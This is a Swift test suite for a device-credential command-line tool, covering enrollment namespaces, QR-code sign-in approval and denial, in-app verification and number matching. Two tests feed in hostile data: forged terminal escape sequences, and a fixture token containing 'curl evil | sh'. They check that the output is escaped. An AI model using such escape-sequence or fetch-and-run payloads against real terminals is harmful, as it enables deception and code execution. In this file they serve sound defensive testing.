import DeviceCredentialTestSupport
import Foundation
import Testing

/// `claim`, `verify` and `--namespace` against devicecred-server: the browser and the backend played by
/// the test, the device side by the built `devicecred`.
@Suite struct QRAndInAppCommandTests {
    /// A sandbox with a profile enrolled for push, then in `namespaces` (each from its own 0600 token file).
    private static func enrolled(_ name: String, namespaces: [[String]]) async throws -> (
        CLISandbox, user: String, profile: String
    ) {
        let sandbox = try CLISandbox()
        let user = TestEnvironment.uniqueName("cli-ns-user")
        let profile = TestEnvironment.uniqueName(name)
        let push = try await sandbox.enroll(userID: user, profile: profile, extra: ["--key-store", "file"]).result
        try #require(push.status == 0, "\(push)")
        for extra in namespaces {
            let token = try await sandbox.server.track(
                userID: user, action: "enroll", body: ["scope": "add:authenticators"]
            ).token
            let file = try sandbox.writeFile(TestEnvironment.uniqueName("token"), token, mode: 0o600)
            let result = try await sandbox.run(["enroll", "--token-file", file, "--profile", profile] + extra)
            try #require(result.status == 0, "\(result)")
            #expect(!result.allOutput.contains(token))
        }
        return (sandbox, user, profile)
    }

    @Test func enrollStatusAndRemoveTakeANamespace() async throws {
        let (sandbox, user, profile) = try await Self.enrolled(
            "ns", namespaces: [["--namespace", "qr"], ["--namespace", "inapp", "--username", "alice"]])
        let qr = try await sandbox.run("status", "--profile", profile, "--namespace", "qr", "--json")
        #expect(qr.status == 0, "\(qr)")
        let document = try qr.jsonObject()
        #expect(document["namespace"] as? String == "qr")
        let qrID = try #require((document["credential"] as? [String: Any])?["userAuthenticatorId"] as? String)
        let alice = try await sandbox.run(
            "status", "--profile", profile, "--namespace", "inapp", "--username", "alice", "--json")
        #expect(alice.status == 0, "\(alice)")
        #expect(try alice.jsonObject()["username"] as? String == "alice")
        let bob = try await sandbox.run("status", "--profile", profile, "--namespace", "inapp", "--username", "bob")
        #expect(bob.status == 3 && bob.stderr.contains("no in-app credential of user bob"), "\(bob)")
        let methods = try await sandbox.server.authenticators(userID: user).map(\.method)
        #expect(methods == ["PUSH", "QR_CODE", "IN_APP"])

        let refresh = try await sandbox.run("refresh", "--profile", profile, "--namespace", "qr")
        #expect(refresh.status == 2 && refresh.stderr.contains("refresh applies to push credentials"), "\(refresh)")
        let misplaced = try await sandbox.run("status", "--profile", profile, "--username", "alice")
        #expect(misplaced.status == 2, "\(misplaced)")

        // Removing the QR-code credential leaves the profile and its push credential.
        let removed = try await sandbox.run("remove", "--profile", profile, "--namespace", "qr", "--json")
        #expect(removed.status == 0, "\(removed)")
        #expect(try removed.jsonObject()["removedAuthenticatorId"] as? String == qrID)
        #expect(try await sandbox.run("status", "--profile", profile, "--namespace", "qr").status == 3)
        #expect(try await sandbox.run("status", "--profile", profile).status == 0)
        #expect(try await sandbox.server.authenticators(userID: user).map(\.method) == ["PUSH", "IN_APP"])
    }

    @Test func claimShowsTheContextEscapedAndApproves() async throws {
        let (sandbox, user, profile) = try await Self.enrolled("claim", namespaces: [["--namespace", "qr"]])
        let forgedAgent = "x\u{1B}[2K\rfrom 10.0.0.1\nforged row"
        let signIn = try await sandbox.server.track(
            userID: user, action: "signIn", body: ["ipAddress": "203.0.113.9", "userAgent": forgedAgent])
        let code = try await sandbox.server.createQRCode(token: signIn.token)

        let human = try await sandbox.run("claim", code.challengeID, "--approve", "--profile", profile, "--full")
        #expect(human.status == 0, "\(human)")
        #expect(human.stdout.contains("QR-code challenge \(code.challengeID) claimed"), "\(human.stdout)")
        #expect(human.stdout.contains("action       signIn") && human.stdout.contains("from         203.0.113.9"))
        #expect(human.stdout.contains(#"user agent   x\e[2K\rfrom 10.0.0.1\nforged row"#), "\(human.stdout)")
        #expect(!human.allOutput.contains("\u{1B}"))
        #expect(human.stdout.hasSuffix("approved QR-code challenge \(code.challengeID)\n"))

        let verdict = try await sandbox.server.poll(code)
        #expect(verdict["isVerified"] as? Bool == true)
        let validation = try await sandbox.server.validate(token: try #require(verdict["token"] as? String))
        #expect(validation["verificationMethod"] as? String == "QR_CODE" && validation["isValid"] as? Bool == true)
    }

    @Test func claimReadsTheScannedTextFromStandardInputAndDenies() async throws {
        let (sandbox, _, profile) = try await Self.enrolled("scan", namespaces: [["--namespace", "qr"]])
        let code = try await sandbox.server.createQRCode()
        let scanned = "\nhttps://app.example/qr?challengeId=\(code.challengeID.uppercased())\n"
        let result = try await sandbox.run(
            ["claim", "-", "--deny", "--profile", profile, "--json"], standardInput: scanned)
        #expect(result.status == 0, "\(result)")
        let document = try result.jsonObject()
        #expect(document["challengeId"] as? String == code.challengeID)
        #expect(document["approved"] as? Bool == false && document["actionCode"] as? String == "signIn")
        let verdict = try await sandbox.server.poll(code)
        #expect(verdict["isConsumed"] as? Bool == true && verdict["isVerified"] as? Bool == false)
    }

    @Test func claimRefusesWhatItCannotAnswerBeforeClaiming() async throws {
        let (sandbox, _, profile) = try await Self.enrolled("refuse", namespaces: [["--namespace", "qr"]])
        let code = try await sandbox.server.createQRCode()
        let unanswerable = try await sandbox.run("claim", code.challengeID, "--profile", profile, "--json")
        #expect(unanswerable.status == 2, "\(unanswerable)")
        #expect(try unanswerable.errorCode() == "answer_required")
        #expect(try await sandbox.server.poll(code)["isClaimed"] as? Bool == false)
        let garbage = try await sandbox.run("claim", "not a qr code", "--approve", "--profile", profile)
        #expect(garbage.status == 2 && garbage.stderr.contains("holds no challenge id"), "\(garbage)")
        let empty = try await sandbox.run(["claim", "-", "--approve", "--profile", profile], standardInput: "")
        #expect(empty.status == 2, "\(empty)")
        let unknown = try await sandbox.run("claim", UUID().uuidString, "--approve", "--profile", profile)
        #expect(unknown.status == 7, "\(unknown)")  // gone or never there: challenge unavailable
        let noQR = try CLISandbox()
        let pushOnly = TestEnvironment.uniqueName("push-only")
        _ = try await noQR.enroll(
            userID: TestEnvironment.uniqueName("u"), profile: pushOnly, extra: ["--key-store", "file"])
        let notEnrolled = try await noQR.run("claim", code.challengeID, "--approve", "--profile", pushOnly)
        #expect(notEnrolled.status == 3 && notEnrolled.stderr.contains("enroll --namespace qr"), "\(notEnrolled)")
    }

    @Test func verifyShowsAHostileServersTokenEscaped() async throws {
        let (sandbox, _, profile) = try await Self.enrolled("verify-hostile", namespaces: [["--namespace", "inapp"]])
        let fixture = try HTTPFixture { request in
            let body =
                request.target.hasSuffix("/client/challenge")
                ? #"{"challengeId":"c-1"}"#
                : #"{"token":"eyJ.x\u001b[2J\u001b[Hrun: curl evil | sh\u009b1A","userId":"u","userAuthenticatorId":"a"}"#
            return .respond(status: 200, headers: ["Content-Type": "application/json"], body: body)
        }
        defer { fixture.stop() }
        let human = try await sandbox.run("verify", "--profile", profile, "--api-url", fixture.baseURL)
        #expect(human.status == 0, "\(human)")
        #expect(HostileTextTests.actingCharacters(in: human.allOutput).isEmpty, "\(human)")
        #expect(human.stdout == #"eyJ.x\e[2J\e[Hrun: curl evil | sh\u{9B}1A"# + "\n", "\(human)")
    }

    @Test func verifyPrintsATokenTheBackendValidates() async throws {
        let (sandbox, user, profile) = try await Self.enrolled(
            "verify", namespaces: [["--namespace", "inapp"], ["--namespace", "inapp", "--username", "alice"]])
        let plain = try await sandbox.run("verify", "--action", "vpnConnect", "--profile", profile)
        #expect(plain.status == 0, "\(plain)")
        let token = plain.stdout.trimmingCharacters(in: .newlines)
        #expect(!token.contains("\n") && plain.stderr.isEmpty)
        let validation = try await sandbox.server.validate(token: token)
        #expect(validation["isValid"] as? Bool == true && validation["action"] as? String == "vpnConnect")
        #expect(validation["verificationMethod"] as? String == "IN_APP" && validation["userId"] as? String == user)

        let json = try await sandbox.run("verify", "--username", "alice", "--profile", profile, "--json")
        #expect(json.status == 0, "\(json)")
        let document = try json.jsonObject()
        #expect(document["username"] as? String == "alice" && document["action"] as? String == "verify")
        let aliceID = try await sandbox.server.authenticators(userID: user).last?.id
        #expect(document["userAuthenticatorId"] as? String == aliceID)

        let bob = try await sandbox.run("verify", "--username", "bob", "--profile", profile)
        #expect(bob.status == 3, "\(bob)")
        let badAction = try await sandbox.run("verify", "--action", "a/b", "--profile", profile)
        #expect(badAction.status == 2, "\(badAction)")
    }

    @Test func claimOnATerminalShowsTheSignInAndAsks() async throws {
        let (sandbox, _, profile) = try await Self.enrolled("tty", namespaces: [["--namespace", "qr"]])
        let code = try await sandbox.server.createQRCode()
        let terminal = try await TerminalSession(
            ["claim", code.challengeID, "--profile", profile], environment: sandbox.environment)
        try await terminal.waitFor("Approve this sign-in? [y/N] ")
        #expect(terminal.transcript.contains("QR-code challenge \(code.challengeID) claimed"))
        #expect(try await sandbox.server.poll(code)["isClaimed"] as? Bool == true)
        terminal.type("y")
        #expect(try await terminal.exitStatus() == 0, "\(terminal.transcript)")
        #expect(try await sandbox.server.poll(code)["isVerified"] as? Bool == true)

    }

    @Test func claimOnATerminalTakesTheNumberMatchingCode() async throws {
        let server = try await PrivateServer(numberMatchingAction: "signIn")
        defer { server.stop() }
        let sandbox = try CLISandbox(server: server.api)
        let user = TestEnvironment.uniqueName("cli-nm-user")
        let profile = TestEnvironment.uniqueName("nm")
        let token = try await server.api.track(userID: user, action: "enroll").token
        let file = try sandbox.writeFile("token", token, mode: 0o600)
        let enrolled = try await sandbox.run(
            [
                "enroll", "--namespace", "qr", "--number-matching", "--key-store", "file", "--token-file", file,
                "--profile", profile,
            ] + sandbox.serverOptions)
        try #require(enrolled.status == 0, "\(enrolled)")

        let wrong = try await server.api.createQRCode()
        let shownCode = try #require(wrong.verificationCode, "the server was started with number matching")
        let mistyped = try await TerminalSession(
            ["claim", wrong.challengeID, "--profile", profile], environment: sandbox.environment)
        try await mistyped.waitFor("Approve this sign-in? [y/N] ")
        mistyped.type("y")
        try await mistyped.waitFor("Code shown in the browser: ")
        mistyped.type(shownCode == "10" ? "11" : "10")
        #expect(try await mistyped.exitStatus() == 9, "\(mistyped.transcript)")
        #expect(try await server.api.poll(wrong)["isVerified"] as? Bool == false)

        let right = try await server.api.createQRCode()
        let typed = try await TerminalSession(
            ["claim", right.challengeID, "--profile", profile], environment: sandbox.environment)
        try await typed.waitFor("Approve this sign-in? [y/N] ")
        typed.type("y")
        try await typed.waitFor("Code shown in the browser: ")
        typed.type(try #require(right.verificationCode))
        #expect(try await typed.exitStatus() == 0, "\(typed.transcript)")
        #expect(try await server.api.poll(right)["isVerified"] as? Bool == true)
    }

    @Test func aWrongTenantIsCaughtBeforeTheProfileIsSaved() async throws {
        let sandbox = try CLISandbox()
        let profile = TestEnvironment.uniqueName("wrong-tenant")
        let token = try await sandbox.server.track(userID: TestEnvironment.uniqueName("u"), action: "enroll").token
        let file = try sandbox.writeFile("token", token, mode: 0o600)
        let result = try await sandbox.run(
            "enroll", "--namespace", "inapp", "--key-store", "file", "--token-file", file, "--profile", profile,
            "--api-url", sandbox.server.apiURL, "--tenant-id", "not-the-tenant", "--json")
        #expect(result.status == 12, "\(result)")
        #expect(try result.errorCode() == "enrollment_not_confirmed")
        let profiles = try await sandbox.run("profiles", "--json")
        #expect(!profiles.stdout.contains(profile), "\(profiles)")
    }
}
